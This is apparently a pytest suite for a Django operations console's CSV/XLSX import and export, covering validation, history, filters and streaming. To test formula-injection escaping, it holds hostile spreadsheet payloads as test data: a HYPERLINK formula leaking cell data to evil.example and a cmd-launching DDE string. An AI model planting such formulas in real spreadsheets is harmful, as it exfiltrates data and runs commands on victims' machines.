"""Console import/export: resources (dry-run, idempotent re-import, history, escaping) and the streaming export."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.core.signals import request_finished
from django.db import close_old_connections, connection
from django.http import StreamingHttpResponse
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from import_export.formats.base_formats import CSV, XLSX

from core.bookings.models import Booking
from core.bookings.services import booking_create, booking_transition
from core.catalog.models import MiniMovePackage, SurchargeRule
from core.common.audit import acting_as
from core.customers.models import CustomerProfile
from core.customers.services import CustomerData
from ops_console.exports import BOOKING_STREAM_HEADERS
from ops_console.formulas import escape_formula, unescape_formula
from ops_console.resources import (
    BookingResource,
    CustomerResource,
    MiniMovePackageResource,
    PaymentResource,
    SurchargeRuleResource,
)
from tests.factories import CustomerFactory, UserFactory

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def stream_url():
    return reverse("admin:core_booking_export_stream")


@pytest.fixture
def staff_client(client, db):
    user = UserFactory(is_superuser=True)
    client.force_login(user)
    client.user = user
    return client


@pytest.fixture
def make_booking(make_request, future_weekday):
    weeks = iter(range(0, 100))

    def _make(*, email=None, name="Alex Morgan", notes="", status=None):
        n = next(weeks)
        customer = CustomerData(name=name, email=email or f"stream{n}@example.com", phone="+12125550123")
        booking, _ = booking_create(request=make_request(pickup_date=future_weekday + dt.timedelta(days=7 * (n % 14)),
                                                         customer=customer, notes=notes))
        if status:
            booking = booking_transition(booking=booking, to_status=status)
        return booking

    return _make


def _csv_dataset(text: str) -> tablib.Dataset:
    return CSV(encoding="utf-8").create_dataset(text)


def _read_stream(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


# --- Formula escaping --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("raw", "expected"), [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("+12125550123", "+12125550123"), ("-5", "-5"), ("12.50", "12.50"), ("Alex", "Alex"), ("", ""),
    # a formula behind leading blanks is still evaluated by Excel and LibreOffice
    (" =1+1", "' =1+1"), ("  @SUM(A1)", "'  @SUM(A1)"), (" \t+cmd", "' \t+cmd"), ("\u00a0\uff1d1", "'\u00a0\uff1d1"),
    (" Alex", " Alex"), ("  ", "  "),
])
def test_escape_formula(raw, expected):
    assert escape_formula(raw) == expected
    assert unescape_formula(escape_formula(raw)) == raw


@pytest.mark.django_db
def test_a_formula_behind_a_leading_space_is_escaped_in_both_booking_exports(staff_client, stream_url, make_booking):
    make_booking(notes=" =1+1")
    streamed = dict(zip(*_read_stream(staff_client.get(stream_url)), strict=True))
    in_memory = dict(zip(*csv.reader(io.StringIO(CSV().export_data(BookingResource().export()))), strict=True))
    for record in (streamed, in_memory):
        assert record["notes"] == "' =1+1"


# --- Customers -------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_customer_dry_run_reports_per_row_errors_and_writes_nothing():
    # given a file with one good row, a bad email, a bad phone and a blank name
    text = ("email,name,phone,staff_notes\n"
            "new@example.com,New Person,(212) 555-0188,VIP\n"
            "not-an-email,Bad Email,,\n"
            "phone@example.com,Bad Phone,12345,\n"
            "blank@example.com,,,\n")
    before = CustomerProfile.objects.count(), CustomerProfile.history.count()
    # when it is previewed
    result = CustomerResource().import_data(_csv_dataset(text), dry_run=True)
    # then each bad row carries its own field error, the good row is a "new" in the preview, nothing is written
    assert not result.has_errors()
    assert result.has_validation_errors()
    invalid = {row.number: row.field_specific_errors for row in result.invalid_rows}
    assert set(invalid) == {2, 3, 4}
    assert "email" in invalid[2]
    assert "phone" in invalid[3]
    assert "name" in invalid[4]
    assert result.totals["new"] == 1
    assert (CustomerProfile.objects.count(), CustomerProfile.history.count()) == before


@pytest.mark.django_db
def test_customer_import_normalises_phone_and_matches_email_case_insensitively():
    staff = UserFactory()
    existing = CustomerFactory(email="alex@example.com", name="Alex", phone="")
    text = ("email,name,phone,staff_notes\n"
            "ALEX@Example.com,Alex Morgan,212-555-0123,\n"
            "sam@example.com,Sam Lee,+1 (631) 555 0199,Gate code 1234\n")
    with acting_as(staff):
        result = CustomerResource().import_data(_csv_dataset(text), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["update"] == 1 and result.totals["new"] == 1
    existing.refresh_from_db()
    assert (existing.email, existing.name, existing.phone) == ("alex@example.com", "Alex Morgan", "+12125550123")
    assert CustomerProfile.objects.get(email="sam@example.com").phone == "+16315550199"


@pytest.mark.django_db
def test_customer_import_writes_history_with_the_acting_user():
    staff = UserFactory()
    existing = CustomerFactory(email="alex@example.com", name="Alex")
    text = "email,name\nalex@example.com,Alex Renamed\nnew@example.com,New Person\n"
    with acting_as(staff, ip_address="203.0.113.9", user_agent="ops-import-test"):
        CustomerResource().import_data(_csv_dataset(text), dry_run=False)
    updated = CustomerProfile.history.filter(id=existing.pk).latest("history_date")
    created = CustomerProfile.history.get(email="new@example.com")
    assert (updated.history_type, updated.name, updated.history_user) == ("~", "Alex Renamed", staff)
    assert (created.history_type, created.history_user, created.ip_address) == ("+", staff, "203.0.113.9")


@pytest.mark.django_db
def test_reimporting_an_exported_customer_file_changes_nothing():
    # given customers, one with a formula in its name (escaped on export)
    CustomerFactory(email="a@example.com", name=EVIL, staff_notes="-1+1")
    CustomerFactory(email="b@example.com", name="Bea", phone="")
    exported = CSV().export_data(CustomerResource().export())
    before = CustomerProfile.objects.count(), CustomerProfile.history.count()
    # when the exported file is imported twice
    for _ in range(2):
        result = CustomerResource().import_data(_csv_dataset(exported), dry_run=False)
        # then every row is an unchanged skip: nothing created, nothing saved, no history row
        assert result.totals["skip"] == 2, result.totals
        assert result.totals["new"] == result.totals["update"] == 0
    assert (CustomerProfile.objects.count(), CustomerProfile.history.count()) == before
    assert CustomerProfile.objects.get(email="a@example.com").name == EVIL


@pytest.mark.django_db
def test_customer_export_escapes_formulae_in_csv_and_xlsx():
    CustomerFactory(email="a@example.com", name=EVIL, phone="+12125550123", staff_notes="@SUM(1)")
    rows = list(csv.reader(io.StringIO(CSV().export_data(CustomerResource().export()))))
    header, row = rows[0], rows[1]
    record = dict(zip(header, row, strict=True))
    assert record["name"] == "'" + EVIL
    assert record["staff_notes"] == "'@SUM(1)"
    assert record["phone"] == "+12125550123"  # a plain number stays readable
    # XLSX: opens with openpyxl, and the cell is text, not a formula
    data = XLSX().export_data(CustomerResource().export(force_native_type=True))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    values = {sheet.cell(1, c).value: sheet.cell(2, c) for c in range(1, sheet.max_column + 1)}
    assert values["name"].value == "'" + EVIL
    assert values["name"].data_type == "s"
    assert values["email"].value == "a@example.com"


# --- Catalog ---------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_catalog_dry_run_bad_prices_are_row_errors(catalog):
    text = ("code,name,base_price,max_items,is_active\n"
            "petite,Petite,-1.00,15,yes\n"
            "grande,Grande,abc,40,yes\n"
            "weekend,Weekend,\"$2,450.00\",,maybe\n"
            "tiny,Tiny,99.999,5,no\n"
            "family,Family Move,2450.00,60,no\n")
    before = list(MiniMovePackage.objects.values_list("code", "base_price", "is_active"))
    history_before = MiniMovePackage.history.count()
    result = MiniMovePackageResource().import_data(_csv_dataset(text), dry_run=True)
    assert not result.has_errors()
    invalid = {row.number: row.field_specific_errors for row in result.invalid_rows}
    assert "base_price" in invalid[1]  # negative
    assert "base_price" in invalid[2]  # not a number
    assert "is_active" in invalid[3]  # "maybe" is not silently False
    assert "base_price" in invalid[4]  # three decimal places
    assert 5 not in invalid
    assert list(MiniMovePackage.objects.values_list("code", "base_price", "is_active")) == before
    assert MiniMovePackage.history.count() == history_before


@pytest.mark.django_db
def test_catalog_reimport_is_idempotent_and_writes_history_once(catalog):
    staff = UserFactory()
    exported = CSV().export_data(MiniMovePackageResource().export())
    history_before = MiniMovePackage.history.count()
    with acting_as(staff):
        result = MiniMovePackageResource().import_data(_csv_dataset(exported), dry_run=False)
    assert result.totals["skip"] == MiniMovePackage.objects.count()
    assert MiniMovePackage.history.count() == history_before
    # a real change: one row updated, one history row naming the user
    changed = exported.replace("995.00", "1095.00")
    with acting_as(staff):
        result = MiniMovePackageResource().import_data(_csv_dataset(changed), dry_run=False)
    assert result.totals["update"] == 1 and result.totals["new"] == 0
    assert MiniMovePackage.objects.get(code="petite").base_price == 1095
    row = MiniMovePackage.history.filter(code="petite").latest("history_date")
    assert (row.history_type, row.history_user) == ("~", staff)


@pytest.mark.django_db
def test_surcharge_rule_import_validates_constraints_and_lists(catalog):
    text = ("code,name,rule_type,amount,is_percentage,start_date,end_date,weekdays,applies_to\n"
            "weekend-x,Weekend,day_of_week,50.00,no,,,\"6,7\",\n"
            "bad-days,Bad days,day_of_week,50.00,no,,,\"[0, 8]\",\n"
            "bad-range,Bad range,date_range,50.00,no,2027-07-10,2027-07-01,,\n"
            "too-much,Too much,holiday,150,yes,,,,\n"
            "bad-type,Bad type,holiday,10,no,,,,\"[\"\"boat\"\"]\"\n")
    result = SurchargeRuleResource().import_data(_csv_dataset(text), dry_run=False)
    invalid = {row.number: row.error_dict for row in result.invalid_rows}
    assert set(invalid) == {2, 3, 4, 5}
    assert "weekdays" in invalid[2]
    assert "applies_to" in invalid[5]
    assert SurchargeRule.objects.get(code="weekend-x").weekdays == [6, 7]
    exported = CSV().export_data(SurchargeRuleResource().export(SurchargeRule.objects.filter(code="weekend-x")))
    again = SurchargeRuleResource().import_data(_csv_dataset(exported), dry_run=False)
    assert again.totals["skip"] == 1


# --- Bookings and payments: export-only -------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("resource_class", [BookingResource, PaymentResource])
def test_bookings_and_payments_refuse_imports(resource_class, make_booking):
    make_booking()
    exported = CSV().export_data(BookingResource().export())
    bookings_before = Booking.objects.count(), Booking.history.count()
    result = resource_class().import_data(_csv_dataset(exported), dry_run=False)
    assert result.has_errors()
    assert "export-only" in str(result.base_errors[0].error)
    assert (Booking.objects.count(), Booking.history.count()) == bookings_before


@pytest.mark.django_db
def test_booking_export_columns_are_readable(make_booking):
    booking = make_booking(name="Alex Morgan", email="alex.m@example.com", notes="+1 call first")
    rows = list(csv.reader(io.StringIO(CSV().export_data(BookingResource().export()))))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["booking_number"] == booking.booking_number
    assert record["customer_name"] == "Alex Morgan"
    assert record["customer_email"] == "alex.m@example.com"
    assert record["pickup_address"] == "245 East 72nd Street, New York, NY 10021"
    assert record["pickup_date"] == booking.pickup_date.isoformat()
    assert record["total_price"] == f"{booking.total_price:.2f}"
    assert record["notes"] == "'+1 call first"
    assert dt.datetime.fromisoformat(record["created_at"]).tzinfo is not None


@pytest.mark.django_db
def test_import_export_admin_export_respects_changelist_filters(make_booking):
    paid = make_booking(status="paid")
    make_booking()
    model_admin = admin.site._registry[Booking]
    request = RequestFactory().get("/admin/core/booking/export/", {"status__exact": "paid"})
    request.user = UserFactory(is_superuser=True)
    queryset = model_admin.get_export_queryset(request)
    rows = list(csv.reader(io.StringIO(CSV().export_data(BookingResource().export(queryset)))))
    assert [r[0] for r in rows[1:]] == [paid.booking_number]


# --- Streaming export ------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_streaming_export_streams_escapes_and_matches_the_resource(staff_client, stream_url, make_booking):
    booking = make_booking(name=EVIL, notes="@SUM(A1)")
    response = staff_client.get(stream_url)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    rows = _read_stream(response)
    assert rows[0] == BOOKING_STREAM_HEADERS
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["booking_number"] == booking.booking_number
    assert record["customer_name"] == "'" + EVIL
    assert record["notes"] == "'@SUM(A1)"
    # same text as the import-export (in-memory) export of the same booking
    resource_rows = list(csv.reader(io.StringIO(CSV().export_data(BookingResource().export()))))
    assert rows == resource_rows


@pytest.mark.django_db
def test_streaming_export_respects_filters_and_search(staff_client, stream_url, make_booking):
    paid = make_booking(status="paid", email="paid@example.com")
    pending = make_booking(email="pending@example.com")
    by_status = _read_stream(staff_client.get(stream_url, {"status__exact": "paid"}))
    assert [r[0] for r in by_status[1:]] == [paid.booking_number]
    by_search = _read_stream(staff_client.get(stream_url, {"q": "pending@example.com"}))
    assert [r[0] for r in by_search[1:]] == [pending.booking_number]
    assert staff_client.get(stream_url, {"no_such_field": "1"}).status_code == 400


@pytest.mark.django_db
def test_streaming_export_query_count_is_constant(staff_client, stream_url, make_booking,
                                                   django_assert_max_num_queries):
    make_booking()
    with CaptureQueriesContext(connection) as few:
        _read_stream(staff_client.get(stream_url))
    for _ in range(6):
        make_booking()
    with django_assert_max_num_queries(len(few.captured_queries)):
        rows = _read_stream(staff_client.get(stream_url))
    assert len(rows) == 1 + 7
    assert not any("COUNT(" in q["sql"].upper() for q in few.captured_queries)


@pytest.mark.django_db
def test_streaming_export_abandoned_midway_leaves_the_connection_usable(make_booking):
    # given more bookings than one chunk, and a client that goes away after the first chunk
    for _ in range(3):
        make_booking()
    model_admin = type(admin.site._registry[Booking])(Booking, admin.site)
    model_admin.stream_export_chunk_size = 1  # this unregistered instance only
    request = RequestFactory().get("/export-stream/")
    request.user = UserFactory(is_superuser=True)
    response = model_admin.export_stream_view(request)
    first = next(iter(response.streaming_content))
    # What the WSGI server does when the client disconnects: close the response (and so the generator).
    # Like Django's test client, keep request_finished from closing the test's transactional connection.
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)
    assert first.startswith(b"booking_number,")
    # then the same database connection still answers
    assert Booking.objects.count() == 3


@pytest.mark.django_db
def test_streaming_export_requires_view_permission(client, stream_url, make_booking):
    make_booking()
    staff_without_perm = UserFactory(is_superuser=False)
    client.force_login(staff_without_perm)
    assert client.get(stream_url).status_code == 403
    client.logout()
    assert client.get(stream_url).status_code == 302  # to the login page


# --- Through the console (the admin's own import/export views) --------------------------------------------


def _format_index(formats, format_class) -> str:
    return str(next(i for i, f in enumerate(formats) if f is format_class or issubclass(f, format_class)))


@pytest.mark.django_db
def test_console_customer_import_previews_errors_then_imports_with_history(staff_client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    model_admin = admin.site._registry[CustomerProfile]
    url = reverse("admin:core_customerprofile_import")
    csv_format = _format_index(model_admin.get_import_formats(), CSV)
    # given a file with a bad row: the preview shows the row's error and nothing is written
    bad = SimpleUploadedFile("customers.csv", b"email,name,phone\nok@example.com,Ok,\nnot-an-email,Bad,\n")
    response = staff_client.post(url, {"import_file": bad, "format": csv_format, "resource": "0"})
    assert response.status_code == 200
    result = response.context["result"]
    assert [row.number for row in result.invalid_rows] == [2]
    assert "email" in result.invalid_rows[0].field_specific_errors
    assert CustomerProfile.objects.count() == 0
    # when a clean file is previewed and then confirmed
    good = SimpleUploadedFile("customers.csv", b"email,name,phone\nok@example.com,Ok,212 555 0100\n")
    response = staff_client.post(url, {"import_file": good, "format": csv_format, "resource": "0"},
                                 HTTP_USER_AGENT="ops-console-test", REMOTE_ADDR="198.51.100.4")
    assert CustomerProfile.objects.count() == 0  # still only a preview
    confirm = response.context["confirm_form"]
    response = staff_client.post(reverse("admin:core_customerprofile_process_import"), confirm.initial,
                                 HTTP_USER_AGENT="ops-console-test", REMOTE_ADDR="198.51.100.4")
    assert response.status_code == 302
    # then the row exists, normalised, and its history names the staff member, IP and browser
    customer = CustomerProfile.objects.get(email="ok@example.com")
    assert customer.phone == "+12125550100"
    row = customer.history.get()
    assert (row.history_user, row.ip_address, row.user_agent) == (staff_client.user, "198.51.100.4",
                                                                  "ops-console-test")


@pytest.mark.django_db
def test_console_booking_export_respects_filters_and_opens_as_xlsx(staff_client, make_booking):
    paid = make_booking(status="paid", name=EVIL)
    make_booking()
    model_admin = admin.site._registry[Booking]
    url = reverse("admin:core_booking_export") + "?status__exact=paid"
    xlsx_format = _format_index(model_admin.get_export_formats(), XLSX)
    fields = {f"bookingresource_{name}": "on" for name in BookingResource().get_export_headers()}
    response = staff_client.post(url, {"format": xlsx_format, "resource": "0", **fields})
    assert response.status_code == 200, response.content[:500]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = list(rows[0])
    assert [r[header.index("booking_number")] for r in rows[1:]] == [paid.booking_number]
    name_cell = sheet.cell(2, header.index("customer_name") + 1)
    assert name_cell.value == "'" + EVIL and name_cell.data_type == "s"


@pytest.mark.django_db
def test_payment_export_shows_dollars_and_the_booking_number(make_booking):
    from core.payments.models import Payment

    booking = make_booking()
    Payment.objects.create(booking=booking, stripe_payment_intent_id="pi_123", amount_cents=123450,
                           refunded_cents=2500, stripe_fee_cents=None, status="succeeded")
    rows = list(csv.reader(io.StringIO(CSV().export_data(PaymentResource().export()))))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert (record["booking_number"], record["stripe_payment_intent_id"]) == (booking.booking_number, "pi_123")
    assert (record["amount"], record["refunded"], record["stripe_fee"]) == ("1234.50", "25.00", "")


@pytest.mark.django_db
@pytest.mark.parametrize("method", ["get", "post"])
def test_console_export_with_an_unknown_filter_is_a_console_message(staff_client, make_booking, method):
    from django.contrib.messages import get_messages

    make_booking()
    url = reverse("admin:core_booking_export") + "?bogus=1"
    csv_format = _format_index(admin.site._registry[Booking].get_export_formats(), CSV)
    response = getattr(staff_client, method)(url, {"format": csv_format, "resource": "0",
                                                   "bookingresource_booking_number": "on"} if method == "post" else {})
    assert response.status_code == 302 and response["Location"] == reverse("admin:core_booking_changelist")
    [message] = get_messages(response.wsgi_request)
    assert message.level_tag == "error" and "filter the list does not know" in str(message)
